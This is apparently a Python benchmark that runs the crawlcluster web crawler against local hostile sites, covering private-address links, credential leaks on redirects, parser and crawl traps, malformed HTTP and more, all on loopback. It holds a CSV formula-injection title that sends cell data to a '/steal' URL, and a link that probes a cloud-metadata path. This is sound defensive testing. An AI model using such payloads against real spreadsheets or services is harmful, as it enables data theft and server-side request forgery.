"""The hostile web of issue 16 as a benchmark: one small local site per case, one crawl each, one table.

    python -m bench hostile [--only private-address,calendar-trap] [--timeout 150] [--code DIR]

Every case starts its own servers on 127.0.0.1 (and a listener on 127.0.0.2 that only counts
who connects), runs ``crawlcluster crawl`` (the embedded crawl: SQLite, no Redis) in a
subprocess with a time limit, and reads what happened from the servers' own logs and the
crawl's SQLite file: requests served, connections a guard should have refused, the rows'
states and errors, CPU seconds and peak memory of the crawl process (``wait4``). A crawl
still running at the limit is stopped with SIGINT (as Ctrl-C) and reported as not ended.

``--code DIR`` runs the crawls from another checkout (``PYTHONPATH=DIR``), so the same cases
run against an older commit: ``git worktree add /tmp/before d286e2e`` then
``python -m bench hostile --code /tmp/before``. No traffic leaves 127.0.0.0/8: every URL a case
serves or links to is on a loopback address. It asserts nothing.
"""

from __future__ import annotations

import csv
import os
import shutil
import signal
import socket
import sqlite3
import ssl
import subprocess
import sys
import tempfile
import threading
import time
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, Callable

from rich.console import Console
from rich.table import Table

from bench.hostile_spiders import START_ENV

REPO_ROOT = Path(__file__).resolve().parent.parent
SPIDERS = "hostile_bench_spiders"


# -- servers --------------------------------------------------------------------------------------------


class Site:
    """A threaded HTTP server on ``host`` whose pages are functions of the path; it logs every
    request (path and headers) it answers."""

    def __init__(self, routes: Callable[[str], tuple[int, dict[str, str], bytes] | None],
                 host: str = "127.0.0.1") -> None:
        site = self
        self.hits: list[tuple[str, dict[str, str]]] = []
        self.lock = threading.Lock()

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_GET(self) -> None:  # noqa: N802 - the stdlib's name
                with site.lock:
                    site.hits.append((self.path, {k.lower(): v for k, v in self.headers.items()}))
                answer = routes(self.path) or (404, {"Content-Type": "text/plain"}, b"not here")
                status, headers, body = answer
                self.send_response(status)
                for name, value in headers.items():
                    self.send_header(name, value)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer((host, 0), Handler)
        self.server.daemon_threads = True
        self.port = self.server.server_address[1]
        self.url = f"http://{host}:{self.port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def served(self, prefix: str = "/") -> int:
        with self.lock:
            return sum(1 for path, _ in self.hits if path.startswith(prefix))

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


class Listener:
    """A TCP port that only counts the connections it accepts (and closes them): where no
    crawl may connect."""

    def __init__(self, host: str) -> None:
        self.sock = socket.create_server((host, 0))
        self.port = self.sock.getsockname()[1]
        self.accepted = 0
        threading.Thread(target=self._run, daemon=True).start()

    def _run(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.accepted += 1
            self._accepted(conn)

    def _accepted(self, conn: socket.socket) -> None:
        conn.close()

    def close(self) -> None:
        self.sock.close()


class RawServer(Listener):
    """A TCP server that answers each connection with ``answer(conn)``: for what no HTTP
    library would send (an illegal status line, a reset mid-body)."""

    def __init__(self, answer: Callable[[socket.socket], None], tls: ssl.SSLContext | None = None) -> None:
        self.answer = answer
        self.tls = tls
        super().__init__("127.0.0.1")

    def _accepted(self, conn: socket.socket) -> None:
        threading.Thread(target=self._serve, args=(conn,), daemon=True).start()

    def _serve(self, conn: socket.socket) -> None:
        try:
            conn.settimeout(5)
            if self.tls is not None:
                conn = self.tls.wrap_socket(conn, server_side=True)
            conn.recv(65536)
            self.answer(conn)
        except OSError:
            pass
        finally:
            conn.close()


def _page(body: str, status: int = 200, **headers: str) -> tuple[int, dict[str, str], bytes]:
    return status, {"Content-Type": "text/html; charset=utf-8", **headers}, body.encode()


def _links(*urls: str) -> str:
    return "<html><body>" + "".join(f'<a href="{u}">{i}</a> ' for i, u in enumerate(urls)) + "</body></html>"


# -- one crawl --------------------------------------------------------------------------------------------


@dataclass
class Crawl:
    """One embedded crawl as a subprocess, and what it left behind."""

    ended: bool
    exit_code: int | None
    seconds: float
    cpu_seconds: float
    peak_mib: float
    db: Path
    output: Path
    stderr: str

    def rows(self) -> list[dict[str, Any]]:
        with sqlite3.connect(self.db) as conn:
            conn.row_factory = sqlite3.Row
            return [dict(r) for r in conn.execute(
                "SELECT url, status, status_code, error, error_kind, depth, next_run_at FROM crawl_tasks")]

    def hosts(self) -> list[dict[str, Any]]:
        with sqlite3.connect(self.db) as conn:
            conn.row_factory = sqlite3.Row
            return [dict(r) for r in conn.execute("SELECT * FROM hosts")]


def run_crawl(target: str, workdir: Path, timeout: float, code: Path, args: list[str] | None = None,
              env: dict[str, str] | None = None, output: str = "items.jsonl") -> Crawl:
    db = workdir / "crawl.db"
    out = workdir / output
    # the spiders travel as a module of their own, so an older checkout (--code) runs them too
    shutil.copy(Path(__file__).with_name("hostile_spiders.py"), workdir / f"{SPIDERS}.py")
    environ = {**os.environ,
               "PYTHONPATH": f"{code}{os.pathsep}{workdir}", "CRAWLCLUSTER_SPIDER_PACKAGES": SPIDERS,
               **(env or {})}
    command = [sys.executable, "-m", "crawlcluster.cli", "crawl", target, "-q", "--db", str(db), "-o",
               str(out),
               *(args or [])]
    started = time.monotonic()
    with open(workdir / "stderr.txt", "w+") as err:
        process = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=err, env=environ, cwd=workdir)
        status, usage, ended = _wait(process.pid, timeout)
        err.seek(0)
        stderr = err.read()
    exit_code = os.waitstatus_to_exitcode(status) if status is not None else None
    return Crawl(ended, exit_code, time.monotonic() - started,
                 usage.ru_utime + usage.ru_stime if usage else 0.0,
                 usage.ru_maxrss / 1024 if usage else 0.0, db, out, stderr)


def _wait(pid: int, timeout: float) -> tuple[int | None, Any, bool]:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        done, status, usage = os.wait4(pid, os.WNOHANG)
        if done:
            return status, usage, True
        time.sleep(0.1)
    os.kill(pid, signal.SIGINT)  # as Ctrl-C: the crawl stops and keeps its rows
    for _ in range(150):
        done, status, usage = os.wait4(pid, os.WNOHANG)
        if done:
            return status, usage, False
        time.sleep(0.1)
    os.kill(pid, signal.SIGKILL)
    _, status, usage = os.wait4(pid, 0)
    return status, usage, False


def _short(text: str | None, limit: int = 90) -> str:
    text = " ".join((text or "").split())
    return text if len(text) <= limit else text[:limit - 1] + "…"


def _row(crawl: Crawl, url_part: str) -> dict[str, Any]:
    return next((r for r in crawl.rows() if url_part in r["url"]), {})


# -- the cases --------------------------------------------------------------------------------------------


@dataclass
class Outcome:
    """A case's figures, as the table shows them."""

    case: str
    figures: dict[str, Any] = field(default_factory=dict)
    outcome: str = ""


def case_private_address(workdir: Path, timeout: float, code: Path) -> Outcome:
    """A spider that follows every link, on a page linking to another loopback address and to
    another port of its own host (where a Redis or a Docker API would listen)."""
    inside = Listener("127.0.0.2")
    other_port = Listener("127.0.0.1")
    links = [f"http://127.0.0.2:{inside.port}/latest/meta-data/", f"http://127.0.0.1:{other_port.port}/"]
    site = Site(lambda path: _page(_links(*links)) if path == "/" else None)
    try:
        crawl = run_crawl(f"{SPIDERS}:FollowEverything", workdir, timeout, code,
                          args=["--ignore-robots"], env={START_ENV: site.url + "/"})
        refused = [r for r in crawl.rows() if "127.0.0.2" in r["url"] or f":{other_port.port}" in r["url"]]
        return Outcome("private-address", {
            "ended": crawl.ended,
            "connections to 127.0.0.2 and the other port": inside.accepted + other_port.accepted,
        }, "; ".join(_short(f"{r['status']}: {r['error']}", 120) for r in refused))
    finally:
        site.close(), inside.close(), other_port.close()


def case_redirect_credentials(workdir: Path, timeout: float, code: Path) -> Outcome:
    """A spider's Authorization header and session cookie, and a 302 to another origin."""
    landing = Site(lambda path: _page("<html><title>landing</title></html>"))
    site = Site(lambda path: (302, {"Location": f"{landing.url}/landing"}, b"") if path == "/" else None)
    try:
        crawl = run_crawl(f"{SPIDERS}:WithCredentials", workdir, timeout, code,
                          args=["--ignore-robots"],
                          env={START_ENV: site.url + "/",
                               "CRAWLCLUSTER_PRIVATE_ALLOW": f"127.0.0.1:{landing.port}"})
        sent = [h for path, h in landing.hits if path == "/landing"]
        leaked = sorted({name for h in sent for name in ("authorization", "cookie") if name in h})
        return Outcome("redirect-credentials", {"ended": crawl.ended, "other origin requests": len(sent)},
                       f"credentials the other origin received: {', '.join(leaked) or 'none'}")
    finally:
        site.close(), landing.close()


def case_nested_tags(workdir: Path, timeout: float, code: Path) -> Outcome:
    """100,000 nested tags (1.1 MB): the parse cost grew with the square of the depth."""
    body = "<html><body>" + "<div>" * 100_000 + "deep" + "</div>" * 100_000 + "</body></html>"
    site = Site(lambda path: _page(body) if path == "/" else None)
    try:
        crawl = run_crawl(site.url + "/", workdir, timeout, code, args=["--ignore-robots"])
        row = _row(crawl, site.url)
        return Outcome("nested-tags", {"ended": crawl.ended, "cpu s": round(crawl.cpu_seconds, 1),
                                       "peak MiB": round(crawl.peak_mib)},
                       _short(f"{row.get('status')} {row.get('error') or ''}"))
    finally:
        site.close()


def case_many_links(workdir: Path, timeout: float, code: Path) -> Outcome:
    """One page with 100,000 same-site links (the crawl is limited to 50 pages)."""
    body = _links(*(f"/p/{i}" for i in range(100_000)))
    site = Site(lambda path: _page(body) if path == "/" else _page("<html>leaf</html>"))
    try:
        crawl = run_crawl(site.url + "/", workdir, timeout, code,
                          args=["--ignore-robots", "--max-pages", "50"])
        return Outcome("many-links", {"ended": crawl.ended, "cpu s": round(crawl.cpu_seconds, 1),
                                      "peak MiB": round(crawl.peak_mib), "rows": len(crawl.rows())})
    finally:
        site.close()


def case_huge_robots(workdir: Path, timeout: float, code: Path) -> Outcome:
    """A 5 MB robots.txt with ``Crawl-delay: 86400``, and two pages behind it (the start and /a)."""
    rules = "".join(f"Disallow: /x{i}/\n" for i in range(400_000))
    robots = ("User-agent: *\nCrawl-delay: 86400\n" + rules).encode()

    def routes(path: str) -> tuple[int, dict[str, str], bytes] | None:
        if path == "/robots.txt":
            return 200, {"Content-Type": "text/plain"}, robots
        return _page(_links("/a")) if path == "/" else _page("<html>leaf</html>")
    site = Site(routes)
    try:
        crawl = run_crawl(site.url + "/", workdir, max(timeout, 200), code)  # 2 pages 60 s apart, capped
        kept = max((len(h.get("robots_body") or "") for h in crawl.hosts()), default=0)
        delay = max((h.get("crawl_delay") or 0 for h in crawl.hosts()), default=0)
        return Outcome("huge-robots", {
            "ended": crawl.ended, "s": round(crawl.seconds),
            "pages served": site.served() - site.served("/robots"),
            "robots.txt bytes kept": kept, "crawl delay s": delay, "peak MiB": round(crawl.peak_mib)})
    finally:
        site.close()


def case_calendar_trap(workdir: Path, timeout: float, code: Path) -> Outcome:
    """``/cal?d=N`` links to ``d=N+1`` for ever."""
    def routes(path: str) -> tuple[int, dict[str, str], bytes] | None:
        if path == "/":
            return _page(_links("/cal?d=1"))
        if path.startswith("/cal?d="):
            n = int(path.split("=")[1])
            return _page(_links(f"/cal?d={n + 1}", f"/cal?d={n - 1}"))
        return None
    site = Site(routes)
    try:
        # the guard's default lets a chain of 1,000 pages of one shape through in each direction
        crawl = run_crawl(site.url + "/", workdir, max(timeout, 300), code, args=["--ignore-robots"])
        rows = crawl.rows()
        stopped = [r for r in rows if r["status"] == "failed"]
        return Outcome("calendar-trap", {"ended": crawl.ended, "s": round(crawl.seconds),
                                         "pages served": site.served("/cal"),
                                         "deepest row": max((r["depth"] for r in rows), default=0)},
                       _short(stopped[0]["error"] if stopped else "followed until stopped", 120))
    finally:
        site.close()


def case_long_url(workdir: Path, timeout: float, code: Path) -> Outcome:
    """A spider that yields a request for a URL 1 MB long."""
    site = Site(lambda path: _page("<html>x</html>"))
    try:
        crawl = run_crawl(f"{SPIDERS}:LongRequest", workdir, timeout, code, args=["--ignore-robots"],
                          env={START_ENV: site.url + "/"})
        rows = crawl.rows()
        refusal = crawl.stderr.strip().splitlines()[-1:] if crawl.exit_code else []
        return Outcome("long-url", {"ended": crawl.ended, "exit code": crawl.exit_code,
                                    "longest URL kept": max((len(r["url"]) for r in rows), default=0),
                                    "longest error kept": max((len(r["error"] or "") for r in rows),
                                                              default=0)},
                       "; ".join([_short(f"{r['status']}: {r['error']}", 80) for r in rows if r["error"]]
                                 + [_short(line, 120) for line in refusal]))
    finally:
        site.close()


def _final_error_case(name: str, answer: Callable[[socket.socket], None], workdir: Path, timeout: float,
                      code: Path, tls: ssl.SSLContext | None = None) -> Outcome:
    server = RawServer(answer, tls)
    scheme = "https" if tls else "http"
    try:
        crawl = run_crawl(f"{scheme}://127.0.0.1:{server.port}/", workdir, timeout, code,
                          args=["--ignore-robots", "--retries", "3", "--retry-delay", "0.5"])
        row = _row(crawl, f":{server.port}/")
        return Outcome(name, {"ended": crawl.ended, "connections": server.accepted},
                       _short(f"{row.get('error_kind')}: {row.get('error')}", 120))
    finally:
        server.close()


def case_bad_status_line(workdir: Path, timeout: float, code: Path) -> Outcome:
    """A server that answers ``HTTP/1.1 abc``: no retry can mend it."""
    return _final_error_case("bad-status-line", lambda conn: conn.sendall(b"HTTP/1.1 abc\r\n\r\n"),
                             workdir, timeout, code)


def case_self_signed(workdir: Path, timeout: float, code: Path) -> Outcome:
    """An HTTPS server with a self-signed certificate."""
    key, cert = workdir / "key.pem", workdir / "cert.pem"
    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1", "-subj",
                    "/CN=127.0.0.1", "-keyout", str(key), "-out", str(cert)], check=True, capture_output=True)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(cert, key)
    answer = _page("<html>secret</html>")
    reply = b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%s" % (len(answer[2]), answer[2])
    return _final_error_case("self-signed-tls",
                             lambda conn: conn.sendall(reply), workdir, timeout, code, context)


def case_reset_mid_body(workdir: Path, timeout: float, code: Path) -> Outcome:
    """Headers promise 1,000 bytes, 10 come, then a TCP reset: worth a retry, and should say why."""
    def answer(conn: socket.socket) -> None:
        conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 1000\r\n\r\n0123456789")
        conn.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\x01\x00\x00\x00\x00\x00\x00\x00")
    return _final_error_case("reset-mid-body", answer, workdir, timeout, code)


def case_retry_after(workdir: Path, timeout: float, code: Path) -> Outcome:
    """A 503 with ``Retry-After: 999999999`` (31.7 years)."""
    site = Site(lambda path: _page("busy", 503, **{"Retry-After": "999999999"}))
    try:
        crawl = run_crawl(site.url + "/", workdir, timeout, code, args=["--ignore-robots", "--retries", "1"])
        row = _row(crawl, site.url)
        due = (row.get("next_run_at") or 0) - time.time() if row.get("status") == "pending" else 0
        return Outcome("retry-after",
                       {"ended": crawl.ended, "s": round(crawl.seconds), "requests": site.served(),
                                       "retry due in days": round(due / 86400, 1)},
                       _short(f"{row.get('status')}: {row.get('error')}", 120))
    finally:
        site.close()


def case_csv_formula(workdir: Path, timeout: float, code: Path) -> Outcome:
    """A page whose title is a spreadsheet formula, exported as CSV."""
    title = '=HYPERLINK("http://127.0.0.1/steal?"&A1,"click")'
    page = _page(f"<html><head><title>{title}</title></head></html>")
    site = Site(lambda path: page if path == "/" else None)
    try:
        crawl = run_crawl(site.url + "/", workdir, timeout, code, args=["--ignore-robots"],
                          output="items.csv")
        with open(crawl.output, newline="") as f:
            cells = [row.get("title", "") for row in csv.DictReader(f)]
        cell = next((c for c in cells if "HYPERLINK" in c), "")
        return Outcome("csv-formula", {"ended": crawl.ended}, f"title cell: {_short(cell, 60)}")
    finally:
        site.close()


def case_database_unreachable(workdir: Path, timeout: float, code: Path) -> Outcome:
    """``status``, ``submit`` and ``results`` with the database URL on a closed port."""
    closed = socket.create_server(("127.0.0.1", 0))
    port = closed.getsockname()[1]
    closed.close()
    env = {**os.environ, "PYTHONPATH": str(code),
           "CRAWLCLUSTER_DATABASE_URL": f"postgresql+psycopg2://postgres@127.0.0.1:{port}/x"}
    figures: dict[str, Any] = {}
    last = ""
    for command in (["status"], ["submit", "http://127.0.0.1:9/"], ["results", "some-project"]):
        done = subprocess.run([sys.executable, "-m", "crawlcluster.cli", *command], capture_output=True,
                              text=True, env=env, timeout=timeout)
        lines = done.stderr.strip().splitlines()
        figures[f"{command[0]}: exit, lines"] = f"{done.returncode}, {len(lines)}"
        last = lines[-1] if lines else last
    return Outcome("database-unreachable", figures, _short(last, 120))


CASES: dict[str, Callable[[Path, float, Path], Outcome]] = {
    "private-address": case_private_address,
    "redirect-credentials": case_redirect_credentials,
    "nested-tags": case_nested_tags,
    "many-links": case_many_links,
    "huge-robots": case_huge_robots,
    "calendar-trap": case_calendar_trap,
    "long-url": case_long_url,
    "bad-status-line": case_bad_status_line,
    "self-signed-tls": case_self_signed,
    "reset-mid-body": case_reset_mid_body,
    "retry-after": case_retry_after,
    "csv-formula": case_csv_formula,
    "database-unreachable": case_database_unreachable,
}


def main(only: str | None = None, timeout: float = 150.0, code: str | None = None) -> list[Outcome]:
    names = [n.strip() for n in only.split(",")] if only else list(CASES)
    unknown = [n for n in names if n not in CASES]
    if unknown:
        raise SystemExit(f"unknown case(s) {', '.join(unknown)}; known: {', '.join(CASES)}")
    checkout = Path(code).resolve() if code else REPO_ROOT
    console = Console()
    table = Table(title=f"hostile cases, crawled from {checkout}")
    for column in ("case", "figures", "outcome"):
        table.add_column(column, overflow="fold")
    outcomes = []
    for name in names:
        with tempfile.TemporaryDirectory(prefix=f"bench-hostile-{name}-") as tmp:
            console.print(f"[dim]{name}...[/dim]")
            outcome = CASES[name](Path(tmp), timeout, checkout)
        outcomes.append(outcome)
        table.add_row(name, ", ".join(f"{k} {v}" for k, v in outcome.figures.items()), outcome.outcome)
    console.print(table)
    return outcomes
